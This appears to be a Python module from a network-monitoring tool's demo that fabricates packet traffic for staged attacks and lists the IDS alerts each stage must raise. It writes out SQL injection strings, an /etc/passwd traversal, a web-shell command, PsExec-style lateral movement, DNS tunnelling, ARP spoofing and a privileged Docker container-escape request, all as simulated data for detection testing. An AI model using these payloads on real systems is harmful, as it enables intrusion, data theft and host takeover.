"""The staged attacks of the demo, one function each, and the alerts that each must raise.

The story: an intruder finds an SQL injection on web-01, gets a shell there and looks around;
from there he moves to the file server. Meanwhile someone guesses passwords at jump-01, app-01
leaks through DNS, and build-01 poses as the gateway and knocks at the hypervisor.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Mapping
from types import MappingProxyType
from typing import NamedTuple

from vpi_tui.capture.demo import hosts as h
from vpi_tui.capture.demo import payloads as p
from vpi_tui.capture.demo import smb
from vpi_tui.capture.demo.background import http, smb_session
from vpi_tui.capture.demo.conversation import ACK, RST, SYN, Conversation, Frame, Tcp, arp, udp
from vpi_tui.capture.demo.timeline import Timeline

SHOP = "shop.example"


def sql_injection(line: Timeline, start: float) -> None:
    """Requests from outside to web-01 with SQL in a parameter, by hand and by sqlmap."""
    intruder = h.outside(h.ATTACKER)
    targets = (
        "/products?id=1%27%20OR%20%271%27=%271",
        "/products?id=-1%20UNION%20SELECT%20login,password%20FROM%20users--%20",
        "/products?id=1%20AND%20SLEEP(5)",
        "/products?id=1%20UNION%20ALL%20SELECT%20table_name%20FROM%20information_schema.tables--",
    )
    for number, target in enumerate(targets):
        agent = p.AGENT if number == 0 else "sqlmap/1.8.9#stable (https://sqlmap.org)"
        talk = http(
            intruder,
            h.WEB1,
            80,
            (p.request(target, SHOP, agent=agent), p.response(p.page("Shop", 6))),
            rtt=0.02,
        )
        line.at(start + number * 0.7, talk)


def web_shell(line: Timeline, start: float) -> None:
    """A file read by traversal, then commands through a shell left in the upload directory."""
    intruder = h.outside(h.ATTACKER)
    passwd = b"root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
    plain = "text/plain"
    read = (p.request("/download?file=../../../../etc/passwd", SHOP), p.response(passwd, kind=plain))
    line.at(start, http(intruder, h.WEB1, 80, read, rtt=0.02))
    shell = p.request("/uploads/avatar.php?cmd=id", SHOP)
    told = p.response(b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n", kind=plain)
    line.at(start + 1.5, http(intruder, h.WEB1, 80, (shell, told), rtt=0.02))


SCANNED = (*range(7000, 7040), 21, 22, 23, 135, 139, 1433, 2049, 3389, 5900, 6379, 9200, 11211)


def port_scan(line: Timeline, start: float) -> None:
    """SYN probes by web-01 at three neighbours; closed ports answer with RST."""
    open_ports = {h.DB1: 22, h.APP1: 22, h.FS1: 3389}
    number = 0
    for port in SCANNED:
        for target in (h.APP1, h.DB1, h.FS1):
            answer = SYN | ACK if open_ports[target] == port else RST | ACK
            line.at(start + number * 0.025, Tcp(h.WEB1, target, port).syn(answer=answer).done())
            number += 1


def ssh_guessing(line: Timeline, start: float) -> None:
    """One source opens SSH connections to jump-01, each ended by the server after a failed try."""
    guesser = h.outside(h.GUESSER, h.OPS)
    talk = Tcp(guesser, h.JUMP1, 22, rtt=0.02).open().send(b"SSH-2.0-libssh_0.9.6\r\n").reply(p.SSH_SERVER)
    talk.send(p.ssh_kexinit(11)).reply(p.ssh_kexinit(12)).send(p.noise(48, 13)).reply(p.noise(452, 14))
    talk.send(p.noise(148, 15)).reply(p.noise(52, 16))
    guess = talk.close(by_client=False).done()
    for number in range(26):
        line.at(start + number * 0.36, guess)


def lateral_movement(line: Timeline, start: float) -> None:
    """web-01 mounts ADMIN$ of win-fs01, writes a service binary and starts it through svcctl."""
    talk = smb_session(h.WEB1, h.FS1, "Administrator", r"\\win-fs01\ADMIN$")
    talk.send(smb.create(4, "PSEXESVC.exe")).reply(smb.created(4))
    binary = b"MZ\x90\0" + b"\0" * 74 + b"This program cannot be run in DOS mode.\r\n$" + p.noise(24_000, 41)
    for number, at in enumerate(range(0, len(binary), 8192), 5):
        chunk = binary[at : at + 8192]
        talk.send(smb.write(number, chunk)).reply(smb.written(number, len(chunk)))
    line.at(start, talk.close().done())
    talk = smb_session(h.WEB1, h.FS1, "Administrator", r"\\win-fs01\IPC$")
    talk.send(smb.create(4, "svcctl")).reply(smb.created(4))
    talk.send(smb.write(5, smb.dcerpc_bind(smb.SVCCTL))).reply(smb.written(5, 72))
    line.at(start + 1.2, talk.close().done())


def dns_tunnel(line: Timeline, start: float) -> None:
    """app-01 asks an outside resolver for TXT records of names that carry data."""
    resolver = h.outside(h.TUNNEL_RESOLVER)
    turns = []
    for number in range(70):
        text = base64.b32encode(p.noise(60, 900 + number)).decode().lower().rstrip("=")
        name = f"{text[:56]}.{text[56:]}.{number:04x}.t.cdn-sync.example"
        turns.append(p.lookup(name, "TXT", text[:40], ident=0x6000 + number))
    line.at(start, udp(h.APP1, resolver, 53, turns, gap=0.1, rtt=0.03))


def database_raid(line: Timeline, start: float) -> None:
    """web-01, which only ever asks app-01, opens the database itself and copies the orders."""
    talk = Tcp(h.WEB1, h.DB1, 5432).open().send(p.pg_startup("postgres", "shop")).reply(p.PG_AUTH_OK)
    talk.send(p.pg_query("select * from orders")).reply(p.pg_rows(180, 120))
    line.at(start, talk.send(p.pg_message("X", b"")).close().done())


def arp_spoofing(line: Timeline, start: float) -> None:
    """build-01 tells hv-mgmt and mail-01 that the gateway has its own MAC."""
    claim = tuple(
        Frame(0.0, True, h.BUILD1.ifindex, arp(h.BUILD1, victim.ip, says_ip=h.GATEWAY_OPS.ip, to=victim))
        for victim in (h.HV1, h.MAIL1)
    )
    for number in range(8):
        line.at(start + number * 0.5, Conversation(claim))


def management_plane(line: Timeline, start: float) -> None:
    """build-01 reaches for libvirt, the Docker API and the web console of the hypervisor."""
    for number, port in enumerate((16509, 8006, 902, 5900)):
        line.at(start + number * 0.4, Tcp(h.BUILD1, h.HV1, port).syn().done())
    api = "hv-mgmt:2375"
    order = (
        b'{"Image":"alpine","Cmd":["chroot","/host"],"HostConfig":{"Privileged":true,"Binds":["/:/host"]}}'
    )
    create = p.request("/v1.47/containers/create", api, method="POST", agent="curl/8.11.0", body=order)
    answer = p.response(b'{"Id":"5f0c1a","Warnings":[]}\n', status="201 Created", kind="application/json")
    line.at(start + 2.0, http(h.BUILD1, h.HV1, 2375, (create, answer)))


class Stage(NamedTuple):
    """start: seconds into the loop. sids: the alerts that must follow, by sid (gid 1 unless given)."""

    start: float
    play: Callable[[Timeline, float], None]
    sids: tuple[int, ...]
    behaviours: tuple[tuple[int, int], ...] = ()
    """(gid, sid) of alerts that no rule raises."""
    breaks_policy: bool = False
    """What it does is in no line of the demo's policy, and no rule sees it."""


STAGES: Mapping[str, Stage] = MappingProxyType(
    {
        "sql injection": Stage(3.5, sql_injection, (9000300, 9000301, 9000303, 9000304, 9000305)),
        "web shell": Stage(9.0, web_shell, (9000310, 9000312, 9000313, 9000316, 9000317)),
        "port scan": Stage(14.0, port_scan, (9000100, 9000101)),
        "ssh guessing": Stage(24.0, ssh_guessing, (9000200, 9000201)),
        "lateral movement": Stage(
            35.0, lateral_movement, (9000400, 9000402, 9000403, 9000404, 9000407, 9000420)
        ),
        "dns tunnel": Stage(44.0, dns_tunnel, (9000500, 9000502)),
        "database raid": Stage(49.0, database_raid, (), breaks_policy=True),
        "arp spoofing": Stage(54.0, arp_spoofing, (), ((2, 1),)),
        "management plane": Stage(
            60.0, management_plane, (9000600, 9000602, 9000603, 9000604, 9000607, 9000609)
        ),
    }
)

EXPECTED_SIDS = frozenset(sid for stage in STAGES.values() for sid in stage.sids)
"""Every rule that one loop of the demo makes alert; no other rule does."""

EXPECTED_BEHAVIOURS = frozenset(pair for stage in STAGES.values() for pair in stage.behaviours)
